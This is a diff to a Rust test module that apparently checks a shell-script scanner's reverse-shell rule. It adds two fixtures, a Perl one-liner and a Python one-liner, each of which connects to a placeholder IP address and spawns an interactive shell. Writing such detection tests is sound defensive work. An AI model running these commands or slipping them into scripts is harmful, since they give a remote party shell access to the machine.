@@ -417,6 +417,14 @@ mod tests {
                 "awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/4444\"}'\n",
                 id::ReverseShell,
             ),
+            (
+                "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(\"198.51.100.8:4433\");open(STDIN,\"<&\",$s);exec(\"/bin/sh -i\")' &\n",
+                id::ReverseShell,
+            ),
+            (
+                "python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.61\",8443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'\n",
+                id::ReverseShell,
+            ),
         ] {
             let found = rules("s.sh", src);
             assert!(
